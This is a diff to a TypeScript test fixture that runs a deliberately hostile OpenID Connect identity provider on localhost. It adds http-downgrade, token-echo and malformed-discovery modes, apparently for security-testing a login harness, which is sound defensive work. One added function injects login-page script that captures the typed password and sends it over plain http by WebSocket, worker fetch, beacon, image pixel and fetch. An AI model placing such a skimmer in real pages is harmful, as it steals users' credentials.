@@ -7,9 +7,11 @@
  */
 import { randomBytes } from 'node:crypto';
 import { type IncomingMessage, type ServerResponse, createServer } from 'node:http';
+import { createServer as createHttpsServer } from 'node:https';
 import type { AddressInfo } from 'node:net';
 import { gzipSync } from 'node:zlib';
 import * as jose from 'jose';
+import type { TestTls } from './tls.ts';
 
 export const MODES = [
   'clean',
@@ -51,6 +53,28 @@ export const MODES = [
   'non-object-token',
   /** Item 7: the login page loads an image from another origin. */
   'offsite-assets',
+  /**
+   * Issue 29 item 1: the harness sends tokens back inside what it encodes (an ID token as id_token_hint in a request
+   * object, the client secret in Basic credentials): everything works, and the reports must not show them decoded.
+   */
+  'echo-tokens',
+  /** Issue 29 item 2 (an https issuer): discovery's authorization_endpoint is http (a downgrade). */
+  'http-authorization',
+  /** Issue 29 item 2: the https authorization endpoint redirects to its login page over http. */
+  'http-login-redirect',
+  /** Issue 29 item 2: the https login page posts the password to an http form action. */
+  'http-form-action',
+  /**
+   * Issue 29 item 2: the https login page's script sends what is typed over plain http by every channel a page has
+   * (a WebSocket, a worker's fetch, a beacon, an image) and the form posts on, over https.
+   */
+  'http-exfiltrate',
+  /** Issue 29 item 2: the device verification_uri is http. */
+  'http-verification',
+  /** Issue 29 item 3: discovery is JSON nested deeper than the harness parses. */
+  'deep-discovery',
+  /** Issue 29 item 3: discovery never answers. */
+  'silent-discovery',
 ] as const;
 export type Mode = (typeof MODES)[number];
 
@@ -70,6 +94,13 @@ export interface Recorded {
 
 export interface HostileIdp {
   issuer: string;
+  /** An http listener on 127.0.0.1 serving the same IdP (the downgrade modes point there); also its requests. */
+  plain: string;
+  plainRequests: Recorded[];
+  /** The certificate file the CLI child must trust, when the issuer is https. */
+  caFile?: string;
+  /** A Chromium wrapper that trusts that certificate (CHROMIUM_PATH for the child), when the issuer is https. */
+  chromium?: () => string;
   /** Another origin (127.0.0.1 on another port): the harness must send it nothing. */
   offOrigin: string;
   mode: Mode;
@@ -93,16 +124,43 @@ export function markupPayload(offOrigin: string): string {
   );
 }
 
+/** A login page script that sends the password typed into it to `to` (http) by every channel it can. */
+function exfiltrate(to: string): string {
+  const ws = to.replace(/^http/, 'ws');
+  return `
+document.addEventListener('submit', function () {
+  var p = encodeURIComponent((document.querySelector('input[type=password]') || {}).value || '');
+  try { var s = new WebSocket('${ws}/ws?p=' + p); s.onopen = function () { s.send(p); }; } catch (e) {}
+  try {
+    var src = 'fetch("${to}/worker?p=' + p + '", { method: "POST", body: "' + p + '" });';
+    new Worker(URL.createObjectURL(new Blob([src], { type: 'text/javascript' })));
+  } catch (e) {}
+  try { navigator.sendBeacon('${to}/beacon', p); } catch (e) {}
+  try { new Image().src = '${to}/pixel?p=' + p; } catch (e) {}
+  try { fetch('${to}/fetch?p=' + p, { method: 'POST', body: p, mode: 'no-cors', keepalive: true }); } catch (e) {}
+}, true);`;
+}
+
 async function readBody(req: IncomingMessage): Promise<string> {
   const chunks: Buffer[] = [];
   for await (const c of req) chunks.push(c as Buffer);
   return Buffer.concat(chunks).toString();
 }
 
-function listen(server: ReturnType<typeof createServer>): Promise<string> {
+function listen(server: ReturnType<typeof createServer>, scheme = 'http'): Promise<string> {
   return new Promise((resolve) =>
-    server.listen(0, '127.0.0.1', () => resolve(`http://127.0.0.1:${(server.address() as AddressInfo).port}`)),
+    server.listen(0, '127.0.0.1', () => resolve(`${scheme}://127.0.0.1:${(server.address() as AddressInfo).port}`)),
   );
+}
+
+/** The decoded payload of a compact JWS or unsecured JWT (a request object), or undefined. */
+function jwtPayload(token: string): Record<string, string> {
+  try {
+    const value: unknown = JSON.parse(Buffer.from(token.split('.')[1] ?? '', 'base64url').toString());
+    return value && typeof value === 'object' ? (value as Record<string, string>) : {};
+  } catch {
+    return {};
+  }
 }
 
 let bomb: Buffer | undefined;
@@ -115,7 +173,11 @@ function gzipBomb(): Buffer {
   return bomb;
 }
 
-export async function startHostileIdp(mode: Mode): Promise<HostileIdp> {
+/**
+ * `tls`: the IdP (issuer, discovery, login) is served over https with this certificate; the http listener `plain`
+ * serves the same IdP, and the downgrade modes point there.
+ */
+export async function startHostileIdp(mode: Mode, options: { tls?: TestTls } = {}): Promise<HostileIdp> {
   const { privateKey, publicKey } = await jose.generateKeyPair('RS256');
   const jwk = { ...(await jose.exportJWK(publicKey)), kid: 'h1', alg: 'RS256', use: 'sig' };
   const issued: string[] = [];
@@ -130,6 +192,10 @@ export async function startHostileIdp(mode: Mode): Promise<HostileIdp> {
   };
   let issuer = '';
   let offOrigin = '';
+  let plain = '';
+  const plainRequests: Recorded[] = [];
+  /** Signed-in sessions (echo-tokens): the sid cookie's value → the user. */
+  const sessions = new Set<string>();
   const sockets = new Set<import('node:net').Socket>();
 
   const json = (res: ServerResponse, status: number, body: unknown, headers: Record<string, string> = {}): void => {
@@ -144,11 +210,18 @@ export async function startHostileIdp(mode: Mode): Promise<HostileIdp> {
   };
 
   const loginPage = (id: string): string => {
-    const action = mode === 'form-action-off-origin' ? `${offOrigin}/steal` : '/login';
+    const action =
+      mode === 'form-action-off-origin'
+        ? `${offOrigin}/steal`
+        : mode === 'http-form-action'
+          ? `${plain}/login`
+          : '/login';
     const extra =
       mode === 'offsite-assets'
         ? `<img src="${offOrigin}/tracker.png" alt=""><link rel="stylesheet" href="${offOrigin}/style.css">`
-        : '';
+        : mode === 'http-exfiltrate'
+          ? `<script>${exfiltrate(plain)}</script>`
+          : '';
     return (
       `${extra}<form method="post" action="${action}"><input type="hidden" name="req" value="${id}">` +
       '<input name="username"><input type="password" name="password"><button type="submit">Sign in</button></form>'
@@ -174,6 +247,15 @@ export async function startHostileIdp(mode: Mode): Promise<HostileIdp> {
       scope: params.scope ?? 'openid',
     };
   };
+
+  function redirectWithCode(res: ServerResponse, params: Record<string, string>, headers: Record<string, string> = {}) {
+    const code = mint();
+    codes.set(code, params);
+    const target = new URL(params.redirect_uri ?? REDIRECT_URI);
+    target.searchParams.set('code', code);
+    if (params.state) target.searchParams.set('state', params.state);
+    res.writeHead(302, { location: target.href, ...headers }).end();
+  }
 
   async function tokenEndpoint(req: IncomingMessage, res: ServerResponse, body: string): Promise<void> {
     const form = Object.fromEntries(new URLSearchParams(body));
@@ -246,16 +328,30 @@ export async function startHostileIdp(mode: Mode): Promise<HostileIdp> {
     return json(res, 400, { error: 'unsupported_grant_type' });
   }
 
-  async function handle(req: IncomingMessage, res: ServerResponse): Promise<void> {
+  async function handle(req: IncomingMessage, res: ServerResponse, over: 'tls' | 'plain' = 'tls'): Promise<void> {
     const body = await readBody(req);
-    const url = new URL(req.url ?? '/', issuer);
-    requests.push({ method: req.method ?? 'GET', url: url.href, headers: req.headers, body });
+    const url = new URL(req.url ?? '/', over === 'plain' ? plain : issuer);
+    (over === 'plain' ? plainRequests : requests).push({
+      method: req.method ?? 'GET',
+      url: url.href,
+      headers: req.headers,
+      body,
+    });
     const at = (path: string) => `${issuer}${path}`;
+    const sid = /(?:^|;\s*)sid=([^;]+)/.exec(req.headers.cookie ?? '')?.[1];
     switch (url.pathname) {
       case '/.well-known/openid-configuration':
+        if (mode === 'silent-discovery') return; // never answers
+        if (mode === 'deep-discovery') return json(res, 200, `${'{"a":'.repeat(200)}1${'}'.repeat(200)}`);
         return json(res, 200, {
           issuer: mode === 'issuer-mismatch' ? `${offOrigin}` : issuer,
-          authorization_endpoint: mode === 'file-authorization' ? 'file:///etc/hostname' : at('/authorize'),
+          authorization_endpoint:
+            mode === 'file-authorization'
+              ? 'file:///etc/hostname'
+              : mode === 'http-authorization'
+                ? `${plain}/authorize`
+                : at('/authorize'),
+          ...(mode === 'echo-tokens' ? { end_session_endpoint: at('/logout'), request_parameter_supported: true } : {}),
           token_endpoint: mode === 'off-origin-token' ? `${offOrigin}/token` : at('/token'),
           userinfo_endpoint: at('/userinfo'),
           jwks_uri: at('/jwks'),
@@ -287,22 +383,49 @@ export async function startHostileIdp(mode: Mode): Promise<HostileIdp> {
           );
         if (mode === 'unclosed-tags')
           return html(res, 200, `<form method="post" action="/login">${'<button><select><textarea>'.repeat(40_000)}`);
+        if (mode === 'http-login-redirect' && over === 'tls') {
+          return void res.writeHead(302, { location: `${plain}/authorize${url.search}` }).end();
+        }
+        const query = Object.fromEntries(url.searchParams);
+        // An unsigned request object's values win (OIDC Core §6.1); whatever else it holds is taken as is.
+        const params = query.request ? { ...query, ...jwtPayload(query.request) } : query;
+        if (sid && sessions.has(sid) && params.prompt !== 'login') return redirectWithCode(res, params);
+        if (params.prompt === 'none') {
+          const target = new URL(params.redirect_uri ?? REDIRECT_URI);
+          target.searchParams.set('error', 'login_required');
+          if (params.state) target.searchParams.set('state', params.state);
+          return void res.writeHead(302, { location: target.href }).end();
+        }
         const id = randomBytes(12).toString('hex');
-        pending.set(id, Object.fromEntries(url.searchParams));
+        pending.set(id, params);
         return html(res, 200, loginPage(id));
       }
+      case '/logout': {
+        if (sid) sessions.delete(sid);
+        const back = url.searchParams.get('post_logout_redirect_uri');
+        if (!back) return html(res, 200, '<p>Signed out</p>');
+        const target = new URL(back);
+        const state = url.searchParams.get('state');
+        if (state) target.searchParams.set('state', state);
+        return void res.writeHead(302, { location: target.href, 'set-cookie': 'sid=; Max-Age=0; Path=/' }).end();
+      }
+      case '/activate':
+        return html(
+          res,
+          200,
+          '<form method="post" action="/activate"><input name="user_code"><input name="username">' +
+            '<input type="password" name="password"><button type="submit">Continue</button></form>',
+        );
       case '/login': {
         const form = Object.fromEntries(new URLSearchParams(body));
         const params = pending.get(form.req ?? '');
         if (!params || form.username !== 'alice' || form.password !== SECRETS.password)
           return html(res, 200, loginPage(form.req ?? ''));
         pending.delete(form.req ?? '');
-        const code = mint();
-        codes.set(code, params);
-        const target = new URL(params.redirect_uri ?? REDIRECT_URI);
-        target.searchParams.set('code', code);
-        if (params.state) target.searchParams.set('state', params.state);
-        return void res.writeHead(302, { location: target.href }).end();
+        if (mode !== 'echo-tokens') return redirectWithCode(res, params);
+        const session = mint();
+        sessions.add(session);
+        return redirectWithCode(res, params, { 'set-cookie': `sid=${session}; Path=/; HttpOnly` });
       }
       case '/token':
         return tokenEndpoint(req, res, body);
@@ -314,22 +437,38 @@ export async function startHostileIdp(mode: Mode): Promise<HostileIdp> {
           user_code: 'WDJB-MJHT',
           expires_in: 600,
           interval: 1,
-          verification_uri: mode === 'file-verification' ? 'file:///etc/hostname' : at('/activate'),
+          verification_uri:
+            mode === 'file-verification'
+              ? 'file:///etc/hostname'
+              : mode === 'http-verification'
+                ? `${plain}/activate`
+                : at('/activate'),
         });
       default:
         return html(res, 404, '<h1>Not found</h1>');
     }
   }
 
-  const server = createServer((req, res) => {
-    void handle(req, res).catch((error: unknown) => {
+  const handler = (over: 'tls' | 'plain') => (req: IncomingMessage, res: ServerResponse) => {
+    void handle(req, res, over).catch((error: unknown) => {
       if (!res.headersSent) json(res, 500, { error: 'server_error', error_description: String(error) });
     });
+  };
+  const { tls } = options;
+  const server = tls
+    ? createHttpsServer({ key: tls.key, cert: tls.cert }, handler('tls'))
+    : createServer(handler('tls'));
+  const plainServer = createServer(handler('plain'));
+  // A WebSocket handshake is an http request too: recorded, then the socket is closed.
+  plainServer.on('upgrade', (req: IncomingMessage, socket: import('node:net').Socket) => {
+    plainRequests.push({ method: 'UPGRADE', url: req.url ?? '/', headers: req.headers, body: '' });
+    socket.destroy();
   });
-  server.on('connection', (s) => {
-    sockets.add(s);
-    s.on('close', () => sockets.delete(s));
-  });
+  for (const s of [server, plainServer])
+    s.on(tls && s === server ? 'secureConnection' : 'connection', (socket: import('node:net').Socket) => {
+      sockets.add(socket);
+      socket.on('close', () => sockets.delete(socket));
+    });
   const off = createServer((req, res) => {
     void readBody(req).then((body) => {
       offOriginRequests.push({ method: req.method ?? 'GET', url: req.url ?? '/', headers: req.headers, body });
@@ -345,11 +484,15 @@ export async function startHostileIdp(mode: Mode): Promise<HostileIdp> {
     sockets.add(s);
     s.on('close', () => sockets.delete(s));
   });
-  issuer = await listen(server);
+  issuer = await listen(server as ReturnType<typeof createServer>, tls ? 'https' : 'http');
   offOrigin = await listen(off);
+  plain = await listen(plainServer);
 
   return {
     issuer,
+    plain,
+    plainRequests,
+    ...(tls ? { caFile: tls.certFile, chromium: () => tls.chromiumWrapper() } : {}),
     offOrigin,
     mode,
     issued,
@@ -363,6 +506,7 @@ export async function startHostileIdp(mode: Mode): Promise<HostileIdp> {
           clientId: 'web',
           clientSecret: SECRETS.confidential,
           redirectUri: REDIRECT_URI,
+          postLogoutRedirectUri: 'https://client.example.test/logged-out',
           scope: 'openid',
         },
         device: { clientId: 'machine', clientSecret: SECRETS.machine, authMethod: 'client_secret_basic' },
@@ -373,7 +517,9 @@ export async function startHostileIdp(mode: Mode): Promise<HostileIdp> {
     }),
     async close() {
       for (const s of sockets) s.destroy();
-      await Promise.all([server, off].map((s) => new Promise<void>((resolve) => s.close(() => resolve()))));
+      await Promise.all(
+        [server, off, plainServer].map((s) => new Promise<void>((resolve) => s.close(() => resolve()))),
+      );
     },
   };
 }
